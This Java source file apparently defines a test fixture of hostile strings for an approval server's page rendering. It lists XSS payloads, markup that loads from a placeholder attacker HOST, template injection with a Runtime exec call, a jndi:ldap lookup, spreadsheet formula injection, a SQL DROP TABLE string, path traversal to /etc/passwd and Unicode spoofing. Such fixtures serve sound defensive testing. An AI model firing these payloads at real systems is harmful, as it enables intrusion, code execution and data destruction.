package io.agentotp.server;

import java.util.List;

/**
 * Text that would do harm on a page that trusted it. {@code HOST} stands for an address
 * that must never be called.
 */
public final class HostileText {

	public static final List<String> ALL = List.of(
			// Elements
			"<script>window.hostile=1</script>", "<img src=x onerror=\"window.hostile=1\">",
			"<svg onload=window.hostile=1>", "<svg><script href=\"http://HOST/a.js\"></script></svg>",
			"<iframe src=\"javascript:window.hostile=1\"></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\">",
			"<object data=\"http://HOST/o\"></object>", "<embed src=\"http://HOST/e\">",
			"<link rel=stylesheet href=\"http://HOST/l.css\">", "<style>@import url(http://HOST/s.css);</style>",
			"<meta http-equiv=\"refresh\" content=\"0;url=http://HOST/m\">", "<base href=\"http://HOST/\">",
			"<form action=\"http://HOST/f\"><button id=\"approve\">Approve</button></form>",
			"<button form=\"decision\" name=\"decision\" value=\"approve\">Deny</button>",
			"<a href=\"http://HOST/a\">Approve</a>", "<video src=\"http://HOST/v\" autoplay>",
			"<img src=\"http://HOST/pixel.png\">", "<details open ontoggle=window.hostile=1>",
			"<input autofocus onfocus=window.hostile=1>", "<marquee onstart=window.hostile=1>x</marquee>",
			"<math><mi xlink:href=\"javascript:window.hostile=1\">x</mi></math>", "<template><img src=x></template>",
			// Out of where it stands
			"</title><script>window.hostile=1</script>", "</textarea><script>window.hostile=1</script>",
			"</span></td></tr></table><h1>Approved</h1>", "</main></body></html><script>window.hostile=1</script>",
			"<!--", "--><script>window.hostile=1</script>", "<![CDATA[<script>window.hostile=1</script>]]>",
			"\" onmouseover=\"window.hostile=1\" x=\"", "' onfocus='window.hostile=1' autofocus='",
			"` onload=`window.hostile=1", "\"><img src=x onerror=window.hostile=1>", "'></option><script>x</script>",
			"&lt;script&gt;window.hostile=1&lt;/script&gt;", "&#60;img src=x onerror=window.hostile=1&#62;",
			"\\u003cscript\\u003ewindow.hostile=1\\u003c/script\\u003e", "%3Cscript%3Ewindow.hostile=1%3C/script%3E",
			"+ADw-script+AD4-window.hostile=1+ADw-/script+AD4-",
			// Addresses
			"javascript:window.hostile=1", "data:text/html,<script>window.hostile=1</script>",
			"//HOST/protocol-relative", "http://HOST/@localhost/approvals", "vbscript:msgbox(1)",
			// Expressions
			"${7*7}", "[[${7*7}]]", "[(${7*7})]", "#{7*7}", "*{7*7}", "~{layout :: page}", "@{//HOST/t}",
			"__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x", "${T(java.lang.System).exit(1)}",
			"th:utext=\"${7*7}\"", "{{7*7}}", "<%= 7*7 %>", "`${window.hostile=1}`", "${jndi:ldap://HOST/a}",
			// What one does not see
			"pay\u202e001 ot\u202c", "\u2066left\u2069\u2067right\u2069", "a\u200b\u200c\u200d\u2060\ufeffb",
			"soft\u00adhyphen no\u00a0break \u2003em", "\u001b[31mred\u001b[0m\u001b]8;;http://HOST/\u0007link",
			"\u0001\u0008\u000b\u000c\u007f\u0085\u009b", "one\rtwo\r\nthree\u2028four\u2029five", "tab\there",
			"tag\udb40\udc68\udb40\udc69s", "\u3164\u115f\u2800filler", "\u180e\ufe0f\udb40\udd00selector",
			// What looks like something else
			"p\u0430yp\u0430l.com", "\uff41\uff44\uff4d\uff49\uff4e",
			"\ud835\udc1a\ud835\udc1d\ud835\udc26\ud835\udc22\ud835\udc27", "example\uff0ecom\uff0flogin",
			"g\u03bfogle",
			// What is drawn over its neighbours
			"Z" + "\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307".repeat(8) + "algo", "\u0338not equal",
			"\u0489\u20e0stop",
			// Right to left, emoji, plain oddities
			"\u05e9\u05dc\u05d5\u05dd 123 \u0645\u0631\u062d\u0628\u0627", "abc \u05d0\u05d1\u05d2 (<b>)",
			"\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67\u200d\ud83d\udc66",
			"\ud83c\udff4\udb40\udc67\udb40\udc7f", "=HYPERLINK(\"http://HOST/x\",\"Click\")",
			"@SUM(1+1)*cmd|' /C calc'!A0", "+1-1", "-2+3", "'; DROP TABLE agentotp_permission; --", "Approved", "\\",
			"null", "  two  spaces  inside", "x,y\"z\"", "__proto__", "../../../etc/passwd");

	private HostileText() {
	}

}
